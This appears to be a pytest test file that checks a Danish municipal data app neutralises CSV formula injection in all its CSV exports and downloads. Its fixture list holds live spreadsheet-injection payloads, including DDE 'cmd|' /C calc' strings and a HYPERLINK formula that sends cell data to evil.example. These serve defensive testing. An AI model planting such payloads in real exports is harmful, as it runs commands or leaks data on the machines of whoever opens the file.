"""CSV injection: every CSV we write neutralises text Excel would run as a formula (OWASP: a
leading single quote), numbers stay numbers, and re-importing our own export gives back the exact
text. Each writer is covered: the data export (``data_model export``), the download buttons under
charts and tables, the validation report's download, and the report pack's CSV files.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import duckdb
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from data_model.__main__ import main
from data_model.csv_safety import TRIGGERS, neutralise, unneutralise
from data_model.export import frame_to_csv, kind_frame
from data_model.importer import import_file
from tests.conftest import TODAY, db_path, open_app, write

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1;"Klik")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted: gets one more quote, and comes back exactly
    "''+x",
    "-",
    "- en punktopstilling",
]
HARMLESS = ["Teknik og Miljø", "a=b", " =1+1", "'tekst'", "x-y", "100 %", "", "＝1+1"]
PLAIN_NUMBERS = ["-3", "+4", "-1.234,5", "-12,5 %", "-0.5", "+45 12 34 56"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_no_formula(data: bytes) -> None:
    """No cell (header or value) starts with a formula trigger, except a plain signed number."""
    for row in cells(data):
        for cell in row:
            if cell[:1] in TRIGGERS:
                assert neutralise(cell) == cell, f"formula-like cell written verbatim: {cell!r}"


# --- the rule itself ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", HARMLESS + PLAIN_NUMBERS)
def test_harmless_text_and_plain_numbers_are_kept(text: str) -> None:
    assert neutralise(text) == text
    assert unneutralise(text) == text


@given(st.text(max_size=30) | st.sampled_from(HOSTILE).flatmap(lambda h: st.just(h) | st.just("'" + h)))
def test_round_trip_is_exact_for_any_text(text: str) -> None:
    safe = neutralise(text)
    assert unneutralise(safe) == text
    assert safe[:1] not in TRIGGERS or neutralise(safe) == safe  # only plain numbers start so


def test_frame_to_csv_neutralises_text_but_not_numbers() -> None:
    frame = pl.DataFrame(
        {
            "tekst": HOSTILE + HARMLESS[:3],
            "antal": [-3, -1, 0, 2, -5, 7, -8, 1, 2, 3, -4, 5, 6, -7],
            "andel": [-1.5] * 14,
            "=overskrift": ["x"] * 14,
            "koder": [["-a", "b"]] * 14,
        }
    )
    data = frame_to_csv(frame)
    rows = cells(data)
    assert rows[0] == ["tekst", "antal", "andel", "'=overskrift", "koder"]
    assert [r[0] for r in rows[1:]] == [neutralise(t) for t in HOSTILE + HARMLESS[:3]]
    assert [r[1] for r in rows[1:]] == [str(v) for v in frame["antal"]]  # negative numbers untouched
    assert {r[2] for r in rows[1:]} == {"-1,5"}
    assert {r[4] for r in rows[1:]} == {"'-a;b"}
    assert_no_formula(data)


def test_categorical_text_is_neutralised_too() -> None:
    frame = pl.DataFrame({"navn": ["=1+1", "ok"]}, schema={"navn": pl.Categorical})
    assert [r[0] for r in cells(frame_to_csv(frame))[1:]] == ["'=1+1", "ok"]


# --- writer 1: the data export, and the round trip through import ----------------------------


def test_export_then_import_is_exact(small_db: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    rows = "".join(f"f{i},Tema {i},\n" for i in range(len(HOSTILE)))
    report = import_file(
        small_db, write(tmp_path / "t.csv", "code,name,parent_code\n" + rows), "themes", today=TODAY
    )
    assert report.ok, report.problems
    for i, text in enumerate(HOSTILE):  # stored as typed in a form (which strips white space)
        small_db.execute("UPDATE theme SET name = ? WHERE code = ?", [text.strip(), f"f{i}"])
    before = kind_frame(small_db, "themes")
    path = str(db_path(small_db))
    small_db.close()
    out = tmp_path / "themes.csv"
    assert main(["export", "--kind", "themes", "--format", "csv", "--out", str(out), "--db", path]) == 0
    data = out.read_bytes()
    assert_no_formula(data)
    names = {r[0]: r[1] for r in cells(data)[1:]}
    assert names["f0"] == "'=cmd|' /C calc'!A0" and names["f7"] == "''=1+1"
    con = duckdb.connect(path)
    try:
        again = import_file(con, out, "themes", today=TODAY)
        assert again.ok and again.unchanged == again.rows == before.height, again.problems
        assert kind_frame(con, "themes").equals(before)
    finally:
        con.close()


# --- writers 2 and 3: download buttons under charts and tables, the validation report ---------


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> Iterator[list]:
    """Every media file manager AppTest makes, so a deferred download's bytes can be produced."""
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.testing.v1 import app_test

    made: list[MediaFileManager] = []

    class Recording(MediaFileManager):
        def __init__(self, *args, **kwargs) -> None:
            super().__init__(*args, **kwargs)
            made.append(self)

    monkeypatch.setattr(app_test, "MediaFileManager", Recording)
    return made


def csv_downloads(at, made: list) -> dict[str, bytes]:
    found = {}
    for button in at.get("download_button"):
        file_id = button.proto.deferred_file_id
        if not file_id or not button.proto.id.endswith("-csv"):
            continue
        for manager in made:
            if file_id in manager._deferred_callables:
                found[button.proto.id] = manager._deferred_callables[file_id]["callable"]()
    return found


def test_chart_and_table_downloads_are_neutralised(
    query_db, monkeypatch: pytest.MonkeyPatch, downloads
) -> None:
    query_db.execute("UPDATE org_unit SET name = ? WHERE unit_id = '999-tek'", [HOSTILE[0]])
    query_db.execute("UPDATE org_unit SET name = ? WHERE unit_id = '999-sos'", [HOSTILE[4]])
    at = open_app(query_db, monkeypatch, "kommune=999&periode=999-2025").run()
    assert not at.exception
    found = csv_downloads(at, downloads)
    assert any("enheder" in key for key in found), list(found)
    unit_csv = next(data for key, data in found.items() if "enheder" in key)
    assert b"'=cmd|' /C calc'!A0" in unit_csv or b"\"'=cmd|' /C calc'!A0\"" in unit_csv
    for data in found.values():
        assert_no_formula(data)
    at.switch_page("views/aar_for_aar.py").run()  # a table download (år for år) as well
    tables = {k: v for k, v in csv_downloads(at, downloads).items() if "tabel" in k}
    assert tables and all(assert_no_formula(v) is None for v in tables.values())
    assert any(b"'=cmd" in v for v in tables.values())


def test_the_validation_report_download_is_neutralised(
    small_db, monkeypatch: pytest.MonkeyPatch, downloads
) -> None:
    at = open_app(small_db, monkeypatch).run()
    at.switch_page("views/data.py").run()
    at.selectbox(key="import_kind").set_value("inquiries").run()
    bad = (
        b"inquiry_id,municipality_code,received,kind_code,unit_id\n"
        b"a1,999,2024-02-01,klage,=cmd|' /C calc'!A0\n"
        b"a2,999,2024-02-01,@SUM(1+1),999-tek\n"
    )
    next(u for u in at.get("file_uploader") if u.key == "import_file").set_value(
        ("fejl.csv", bad, "text/csv")
    ).run()
    assert not at.exception
    found = {k: v for k, v in csv_downloads(at, downloads).items() if "problems" in k}
    assert found, "the validation report has a CSV download"
    (report,) = found.values()
    values = [r[2] for r in cells(report)[1:]]
    assert "'=cmd|' /C calc'!A0" in values and "'@SUM(1+1)" in values
    assert_no_formula(report)


# --- writer 4: the report pack -----------------------------------------------------------------


def test_report_pack_csvs_are_neutralised(query_db, tmp_path: Path, stub_rendering: None) -> None:
    from report_pack import build_pack

    query_db.execute("UPDATE org_unit SET name = ? WHERE unit_id = '999-tek'", [HOSTILE[1]])
    query_db.execute("UPDATE org_unit SET name = ? WHERE unit_id = '999-sos'", [HOSTILE[3]])
    build_pack(query_db, "999", "999-2025", tmp_path / "pakke", today=TODAY)
    files = sorted((tmp_path / "pakke").rglob("*.csv"))
    assert files
    written = b"".join(f.read_bytes() for f in files)
    assert b"'=HYPERLINK(" in written and b"'-2+3+cmd" in written
    for file in files:
        assert_no_formula(file.read_bytes())
